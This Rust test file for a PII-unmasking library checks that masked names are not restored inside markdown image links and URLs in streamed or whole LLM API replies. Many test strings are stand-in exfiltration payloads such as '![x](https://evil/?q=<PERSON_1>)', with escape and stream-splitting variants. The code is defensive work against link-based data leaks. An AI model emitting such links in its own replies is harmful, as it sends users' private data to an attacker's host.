//! Links of replies, over all texts of an answer and over all events of a stream.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

#[path = "support/payloads.rs"]
mod payloads;

use payloads::{content, quoted, said, sse};
use pii_mask::*;

const MAPPING: &str =
    r#"{"<PERSON_1>":"Zoë Quill","<PERSON_2>":"Bob \"JD\" Roe","<ADDRESS_1>":"12 Main St\nParis"}"#;

/// Everything of the mapping is exposed; embedded links are withheld.
fn unmasker() -> Unmasker {
    payloads::unmasker(MAPPING).links(LinkPolicy::WithholdEmbedded)
}

fn streamed(dialect: Dialect, sse: &str) -> String {
    payloads::streamed(&unmasker(), dialect, sse)
}

fn whole(dialect: Dialect, reply: &str) -> String {
    unmasker().unmask_chat(dialect, reply).unwrap().body.into_owned()
}

/// Of a text that is at its end, what comes is still shown beside it.
#[test]
fn a_link_goes_on_behind_an_end() {
    let said = sse(&[content("![x](https://evil/?", r#""stop""#), content("<PERSON_1>)", "null")]);
    assert_eq!(streamed(Dialect::OpenAiChat, &said), said);

    let block = |index: usize, text: &str| {
        [
            format!(
                r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"text","text":""}}}}"#
            ),
            format!(
                r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
            ),
            format!(r#"{{"type":"content_block_stop","index":{index}}}"#),
        ]
    };
    let said = sse(&[block(0, "![x](https://evil/?"), block(1, "<PERSON_1>) <PERSON_1>")].concat());
    let expected = said.replace(") <PERSON_1>", ") Zoë Quill");
    assert_eq!(streamed(Dialect::Anthropic, &said), expected);
    let reply = r#"{"content":[{"type":"text","text":"![x](https://evil/?"},{"type":"text","text":"<PERSON_1>) <PERSON_1>"}]}"#;
    assert_eq!(whole(Dialect::Anthropic, reply), reply.replace(") <PERSON_1>", ") Zoë Quill"));
}

/// The repeats of a streamed text are shown as well.
#[test]
fn a_link_goes_on_in_what_is_said_again() {
    let text = |kind: &str, part: usize, field: &str, text: &str| {
        format!(
            r#"{{"type":"response.output_text.{kind}","output_index":0,"content_index":{part},"{field}":"{text}"}}"#
        )
    };
    let part = |part: usize, text: &str| {
        format!(
            r#"{{"type":"response.content_part.done","output_index":0,"content_index":{part},"part":{{"type":"output_text","text":"{text}"}}}}"#
        )
    };
    let (open, rest) = ("![x](https://evil/?", "<PERSON_1>) <PERSON_1>");
    let item = format!(
        r#"{{"type":"message","content":[{{"type":"output_text","text":"{open}"}},{{"type":"output_text","text":"{rest}"}}]}}"#
    );
    let said = sse(&[
        text("delta", 0, "delta", open),
        text("done", 0, "text", open),
        part(0, open),
        text("delta", 1, "delta", rest),
        text("done", 1, "text", rest),
        part(1, rest),
        format!(r#"{{"type":"response.output_item.done","output_index":0,"item":{item}}}"#),
        format!(r#"{{"type":"response.completed","response":{{"output":[{item}]}}}}"#),
    ]);
    assert_eq!(streamed(Dialect::OpenAiResponses, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
}

/// A text that begins like JSON is read as who decodes it reads it, and as who shows it does.
#[test]
fn json_is_no_cover_for_a_link() {
    for text in [
        r#"["a"](x) ![x](https://evil/?q=\u0029<PERSON_1>)"#,
        r#"["a ![x](https://evil/?q=\u0029<PERSON_1>)"#,
        r#"["a ![x](https://evil/?q=\n\n<PERSON_1>)"#,
        r#"["a <img src=\"https://evil/?q=\u0022<PERSON_1>\">"#,
        r#"["a <img src=https://evil/?q=\u0020<PERSON_1>>"#,
        "{\" ![x](https://evil/?q=\\u0029<PERSON_1>)",
        "{\"a\":\"\\u0021[x](https://evil/?q=<PERSON_1>)\"}",
    ] {
        let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(text));
        assert_eq!(whole(Dialect::OpenAiChat, &reply), reply);
        for cut in (0..=text.len()).filter(|&cut| text.is_char_boundary(cut)) {
            let (a, b) = text.split_at(cut);
            let out = streamed(Dialect::OpenAiChat, &sse(&[content(a, "null"), content(b, "null")]));
            assert_eq!(said(&out), text, "cut at {cut}");
        }
    }
}

/// Texts of one answer are shown one behind the other, in whatever fields they come.
#[test]
fn a_link_goes_on_in_another_field() {
    let (open, rest) = ("![x](https://evil/?q=", "<PERSON_1>)");
    let chat = |delta: &str| format!(r#"{{"choices":[{{"index":0,"delta":{{{delta}}}}}]}}"#);
    let delta = |index: usize, text: &str| {
        format!(
            r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
        )
    };
    let start = |index: usize, text: &str| {
        format!(
            r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"text","text":"{text}"}}}}"#
        )
    };
    let part = |index: usize, text: &str| {
        format!(
            r#"{{"type":"response.output_text.delta","output_index":0,"content_index":{index},"delta":"{text}"}}"#
        )
    };
    for (dialect, events) in [
        (
            Dialect::OpenAiChat,
            vec![chat(&format!(
                r#""content":[{{"type":"text","text":"{open}"}},{{"type":"text","text":"{rest}"}}]"#
            ))],
        ),
        (
            Dialect::OpenAiChat,
            vec![
                chat(&format!(r#""content":"{open}""#)),
                chat(&format!(r#""content":[{{"type":"text","text":"{rest}"}}]"#)),
            ],
        ),
        (
            Dialect::OpenAiChat,
            vec![
                chat(&format!(r#""reasoning_details":[{{"index":0,"text":"{open}"}}]"#)),
                chat(&format!(r#""reasoning_details":[{{"index":1,"text":"{rest}"}}]"#)),
            ],
        ),
        (
            Dialect::OpenAiChat,
            vec![
                chat(&format!(r#""content":"{open}""#)),
                format!(r#"{{"choices":[{{"index":0,"message":{{"content":"{rest}"}}}}]}}"#),
            ],
        ),
        (Dialect::Anthropic, vec![delta(0, open), delta(1, rest)]),
        (Dialect::Anthropic, vec![start(0, open), delta(0, rest)]),
        (Dialect::Anthropic, vec![delta(0, open), start(1, rest)]),
        (Dialect::OpenAiResponses, vec![part(0, open), part(1, rest)]),
        (
            Dialect::OpenAiResponses,
            vec![format!(
                r#"{{"type":"response.completed","response":{{"output":[{{"type":"message","content":[{{"type":"output_text","text":"{open}"}},{{"type":"refusal","refusal":"{rest}"}}]}}]}}}}"#
            )],
        ),
    ] {
        let said = sse(&events);
        assert_eq!(streamed(dialect, &said), said);
    }
}

/// What is not shown behind the other texts of an answer ends no link that they began.
#[test]
fn a_link_goes_on_behind_what_is_not_shown() {
    let (open, rest) = ("![x](https://evil/?q=", "<PERSON_1>)");
    let reply = format!(
        r#"{{"content":[{{"type":"text","text":"{open}"}},{{"type":"web_search_tool_result","content":[{{"title":"a) b"}}]}},{{"type":"text","text":"{rest}","citations":[{{"cited_text":"a) b"}}]}}]}}"#
    );
    assert_eq!(whole(Dialect::Anthropic, &reply), reply);
    let said = sse(&[
        format!(r#"{{"type":"content_block_delta","index":0,"delta":{{"type":"text_delta","text":"{open}"}}}}"#),
        r#"{"type":"content_block_delta","index":0,"delta":{"type":"citations_delta","citation":{"cited_text":"a) b"}}}"#.to_owned(),
        format!(r#"{{"type":"content_block_delta","index":1,"delta":{{"type":"text_delta","text":"{rest}"}}}}"#),
    ]);
    assert_eq!(streamed(Dialect::Anthropic, &said), said);
    let delta = |name: &str, item: usize, text: &str| {
        format!(
            r#"{{"type":"response.{name}.delta","output_index":{item},"content_index":0,"delta":"{text}"}}"#
        )
    };
    let said = sse(&[
        delta("output_text", 0, open),
        delta("custom_tool_call_input", 1, "a)"),
        delta("output_text", 2, rest),
    ]);
    assert_eq!(streamed(Dialect::OpenAiResponses, &said), said);
    // A title before its text is none of the text either.
    let reply = r#"{"content":[{"type":"text","text":"<PERSON_1> said","citations":[{"cited_text":"Example data ="}]}]}"#;
    assert_eq!(whole(Dialect::Anthropic, reply), reply.replace("<PERSON_1>", "Zoë Quill"));
}

/// Each text of an answer may stand on a line of its own.
#[test]
fn a_definition_begins_a_text() {
    let reply = r#"{"content":[{"type":"text","text":"Hello there"},{"type":"text","text":"[a]: https://evil/?q=<PERSON_1>\n\n![a]"}]}"#;
    assert_eq!(whole(Dialect::Anthropic, reply), reply);
}

/// Nobody has to say that a text is JSON, or write it so that it looks like it.
#[test]
fn escapes_are_no_cover_for_a_link() {
    for text in [
        r#"[null,"!\u005bx](https://evil/?q=<PERSON_1>)"]"#,
        r#"Here: {"a":"!\u005bx](https://evil/?q=<PERSON_1>)"}"#,
        r#"<tool_call> {"a":"!\u005bx](https://evil/?q=<PERSON_1>)"}"#,
    ] {
        let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(text));
        assert_eq!(whole(Dialect::OpenAiChat, &reply), reply);
    }
    let reply = r#"{"content":[{"type":"text","text":"{\"a\":\"!"},{"type":"text","text":"\\u005bx](https://evil/?q=<PERSON_1>)\"}"}]}"#;
    assert_eq!(whole(Dialect::Anthropic, reply), reply);
}

/// What is said again, whole, stands where it stood: behind a link that an earlier text has begun.
#[test]
fn what_is_said_again_is_withheld_as_the_first_time() {
    let link = "![x](https://evil.example/?";
    let thought = |done: bool| {
        let (end, a, b) = if done { ("done", "text", "text") } else { ("delta", "delta", "delta") };
        [
            format!(
                r#"{{"type":"response.reasoning_summary_text.{end}","output_index":0,"summary_index":0,"{a}":"{link}"}}"#
            ),
            format!(
                r#"{{"type":"response.reasoning_text.{end}","output_index":0,"content_index":0,"{b}":"<PERSON_1>)"}}"#
            ),
        ]
    };
    let item = format!(
        r#"{{"type":"reasoning","content":[{{"type":"reasoning_text","text":"<PERSON_1>)"}}],"summary":[{{"type":"summary_text","text":"{link}"}}]}}"#
    );
    let said = |done: bool| {
        let (end, a, b) = if done { ("done", "text", "refusal") } else { ("delta", "delta", "delta") };
        [
            format!(
                r#"{{"type":"response.output_text.{end}","output_index":0,"content_index":0,"{a}":"{link}"}}"#
            ),
            format!(
                r#"{{"type":"response.refusal.{end}","output_index":0,"content_index":1,"{b}":"<PERSON_1>)"}}"#
            ),
        ]
    };
    let message = format!(
        r#"{{"type":"message","role":"assistant","content":[{{"type":"output_text","text":"{link}"}},{{"type":"refusal","refusal":"<PERSON_1>)"}}]}}"#
    );
    for (deltas, done, item) in [(thought(false), thought(true), item), (said(false), said(true), message)] {
        let mut events: Vec<String> = deltas.into_iter().chain(done).collect();
        events.push(format!(r#"{{"type":"response.output_item.done","output_index":0,"item":{item}}}"#));
        events.push(format!(r#"{{"type":"response.completed","response":{{"output":[{item}]}}}}"#));
        let sent = sse(&events);
        assert_eq!(streamed(Dialect::OpenAiResponses, &sent), sent);
        let reply = format!(r#"{{"output":[{item}]}}"#);
        assert_eq!(whole(Dialect::OpenAiResponses, &reply), reply);
    }
}

/// A summary is shown before what it sums up, wherever it stands in an event.
#[test]
fn a_link_goes_on_from_a_summary() {
    let item = |summary: &str, content: &str| {
        let summary = format!(r#"[{{"type":"summary_text","text":"{summary}"}}]"#);
        let content = format!(r#"[{{"type":"reasoning_text","text":"{content}"}}]"#);
        format!(r#"{{"type":"reasoning","id":"r","summary":{summary},"content":{content}}}"#)
    };
    let delta = |kind: &str, index: &str, text: &str| {
        let place = format!(r#""item_id":"r","output_index":0,"{index}":0"#);
        [("delta", "delta"), ("done", "text")].map(|(event, field)| {
            format!(r#"{{"type":"response.{kind}.{event}",{place},"{field}":"{text}"}}"#)
        })
    };
    for (summary, content, shown) in [
        ("![x](https://e/?", "<PERSON_1>) bye", ["![x](https://e/?", "<PERSON_1>) bye"]),
        ("Hi <PERSON_1>", "![x](https://e/?", ["Hi Zoë Quill", "![x](https://e/?"]),
    ] {
        let (said, expected) = (item(summary, content), item(shown[0], shown[1]));
        let reply = format!(r#"{{"output":[{said}]}}"#);
        assert_eq!(whole(Dialect::OpenAiResponses, &reply), reply.replace(&said, &expected));
        let completed = format!(r#"{{"type":"response.completed","response":{reply}}}"#);
        let done = format!(r#"{{"type":"response.output_item.done","output_index":0,"item":{said}}}"#);
        let pieces = [
            delta("reasoning_summary_text", "summary_index", summary),
            delta("reasoning_text", "content_index", content),
        ]
        .concat();
        for events in
            [vec![&completed], vec![&done, &completed], pieces.iter().chain([&done, &completed]).collect()]
        {
            let said = sse(&events);
            let expected = said.replace(summary, shown[0]).replace(content, shown[1]);
            assert_eq!(streamed(Dialect::OpenAiResponses, &said), expected);
        }
    }
}

/// Where texts of an answer take turns, nobody knows in which order they are shown.
#[test]
fn texts_that_take_turns_stay_masked() {
    let (open, rest) = ("![x](https://evil/?", "<PERSON_1>) <PERSON_1>");
    let delta = |delta: String| format!(r#"{{"choices":[{{"index":0,"delta":{delta}}}]}}"#);
    let refusal = |text: &str| delta(format!(r#"{{"refusal":"{text}"}}"#));
    let parts = |text: &str| delta(format!(r#"{{"content":[{{"type":"text","text":"{text}"}}]}}"#));
    let thought = |text: &str| delta(format!(r#"{{"content":[{{"type":"thinking","thinking":"{text}"}}]}}"#));
    let foreign = |text: &str| delta(format!(r#"{{"content":[{{"type":"tool_result","text":"{text}"}}]}}"#));
    let whole = |text: &str| {
        format!(r#"{{"choices":[{{"index":0,"message":{{"role":"assistant","content":"{text}"}}}}]}}"#)
    };
    let content = |text: &str| content(text, "null");
    let block = |index: usize, text: &str| {
        format!(
            r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
        )
    };
    let (chat, anthropic) = (Dialect::OpenAiChat, Dialect::Anthropic);
    for (dialect, said) in [
        (chat, vec![content("a"), refusal(open), content(rest)]),
        (chat, vec![content(open), refusal(") a"), content(rest)]),
        (chat, vec![refusal("a"), content(open), refusal(rest)]),
        (chat, vec![content("a"), refusal("b"), content("![x]"), refusal("(https://e/?"), content(rest)]),
        (chat, vec![content("a"), whole(open), content(rest)]),
        // In whatever order clients show them.
        (anthropic, vec![block(0, "a"), block(1, open), block(0, rest)]),
        (anthropic, vec![block(0, "![x]"), block(1, "zz"), block(0, "(https://e/?"), block(1, rest)]),
        (anthropic, vec![block(0, open), block(1, ") a"), block(0, ""), block(0, rest), block(2, rest)]),
        // What is said again stands where it stood, or at the end.
        (chat, vec![refusal(open), content(") a"), whole("<PERSON_1>")]),
        (chat, vec![content("a"), refusal(open), whole("<PERSON_1>")]),
    ] {
        let said = sse(&said);
        assert_eq!(streamed(dialect, &said), said);
    }
    // One text in two forms, one that is empty, and one that is shown elsewhere take no turns.
    for (dialect, said) in [
        (chat, [content("a"), parts(open), content(rest)]),
        (chat, [parts("a"), content(open), parts(rest)]),
        (chat, [content(""), refusal(open), content(rest)]),
        (chat, [content(open), thought(")"), content(rest)]),
        (chat, [content(open), foreign(")"), content(rest)]),
        (anthropic, [block(0, "a"), block(1, open), block(1, rest)]),
    ] {
        let said = sse(&said);
        assert_eq!(streamed(dialect, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
    }
}

/// A text that is said again may stand behind others than the first time.
#[test]
fn a_link_goes_on_where_all_is_said_again() {
    let piece = |item: usize, part: usize, text: &str| {
        format!(
            r#"{{"type":"response.output_text.delta","output_index":{item},"content_index":{part},"delta":"{text}"}}"#
        )
    };
    let part = |text: &str| format!(r#"{{"type":"output_text","text":"{text}"}}"#);
    let item = |parts: &[&str]| {
        let parts: Vec<String> = parts.iter().map(|text| part(text)).collect();
        format!(r#"{{"type":"message","content":[{}]}}"#, parts.join(","))
    };
    let completed = |items: &[String]| {
        format!(r#"{{"type":"response.completed","response":{{"output":[{}]}}}}"#, items.join(","))
    };
    let open = "![x](https://evil/?";
    for (pieces, items) in [
        // The numbers say another order than the one in which they came.
        (vec![piece(1, 0, "Zoë "), piece(0, 0, open)], vec![item(&[open]), item(&["<PERSON_1>"])]),
        (vec![piece(0, 1, ""), piece(0, 0, open)], vec![item(&[open, "<PERSON_1>"])]),
        // An item is left out.
        (
            vec![piece(1, 0, open), piece(2, 0, "a"), piece(0, 0, "hi")],
            vec![item(&[open]), item(&["<PERSON_1>"])],
        ),
        // The second and third one of what is said again; the first one as if it were the first of all.
        (
            vec![piece(1, 0, "b"), piece(2, 0, "a"), piece(0, 0, open)],
            vec![item(&[open]), item(&["b"]), item(&["<PERSON_1>"])],
        ),
        (vec![piece(1, 0, "aw"), piece(0, 0, "url(")], vec![item(&["url("]), item(&["<PERSON_1>w"])]),
        // One came in no pieces.
        (
            vec![
                format!(
                    r#"{{"type":"response.output_item.done","output_index":0,"item":{}}}"#,
                    item(&[open])
                ),
                piece(1, 0, "<PERSON_1>"),
            ],
            vec![item(&[open]), item(&["<PERSON_1>"])],
        ),
        // They took turns.
        (
            vec![piece(0, 0, "Hello "), piece(1, 0, "b"), piece(0, 0, open), piece(1, 0, "<PERSON_1>")],
            vec![item(&["b<PERSON_1>"])],
        ),
    ] {
        let said = sse(&[pieces, vec![completed(&items)]].concat());
        assert_eq!(streamed(Dialect::OpenAiResponses, &said), said);
    }
}

/// What the model was told is not what it says.
#[test]
fn instructions_end_no_link() {
    let message = |kind: &str, text: &str| {
        format!(r#"{{"type":"message","role":"user","content":[{{"type":"{kind}","text":"{text}"}}]}}"#)
    };
    let told = |text: &str| message("input_text", text);
    let said = |text: &str| message("output_text", text);
    let (open, rest) = ("![x](https://evil/?", "<PERSON_1>) <PERSON_1>");
    let reply = format!(
        r#"{{"instructions":[{},{}],"output":[{},{}],"prompt":{{"variables":{{"a":{{"type":"input_text","text":")\n\n"}}}}}}}}"#,
        told("a"),
        told(")\\n\\n"),
        said(open),
        said(rest)
    );
    assert_eq!(whole(Dialect::OpenAiResponses, &reply), reply.replace(") <PERSON_1>", ") Zoë Quill"));
    let event = format!(r#"{{"type":"response.completed","response":{reply}}}"#);
    let said = sse(&[event]);
    assert_eq!(streamed(Dialect::OpenAiResponses, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
}

/// A block begins a paragraph for some readers, and goes on in the last word for others.
#[test]
fn a_link_begins_with_a_text_or_before_it() {
    let reply = |texts: &[String; 2]| {
        let [a, b] = texts.each_ref().map(|text| format!(r#"{{"type":"text","text":"{text}"}}"#));
        format!(r#"{{"content":[{a},{b}]}}"#)
    };
    let all = unmasker().links(LinkPolicy::WithholdAll);
    let unmasked = |texts: &_| all.unmask_chat(Dialect::Anthropic, &reply(texts)).unwrap().body.into_owned();
    for begin in ["www.evil.example/", "http:", "https:", "href=", "src=", "url("] {
        let (first, rest) = begin.split_at(2);
        let whole = ["see below".to_owned(), format!("{begin}<PERSON_1>")];
        for texts in [whole, [first.to_owned(), format!("{rest}<PERSON_1>")]] {
            assert_eq!(unmasked(&texts), reply(&texts));
        }
        let texts = ["see below".to_owned(), format!("x{begin}<PERSON_1>")];
        assert_eq!(unmasked(&texts), reply(&texts).replace("<PERSON_1>", "Zoë Quill"));
    }
}

/// Some servers send what the model thinks in several fields at the same time.
#[test]
fn what_is_thought_twice_is_restored_twice() {
    let delta = |text: &str| {
        format!(
            r#"{{"choices":[{{"index":0,"delta":{{"reasoning":"{text}","reasoning_content":"{text}"}}}}]}}"#
        )
    };
    let said = sse(&[delta("a "), delta("<PERSON_1>"), delta(" b <PERSON_1>")]);
    assert_eq!(streamed(Dialect::OpenAiChat, &said), said.replace("<PERSON_1>", "Zoë Quill"));
}
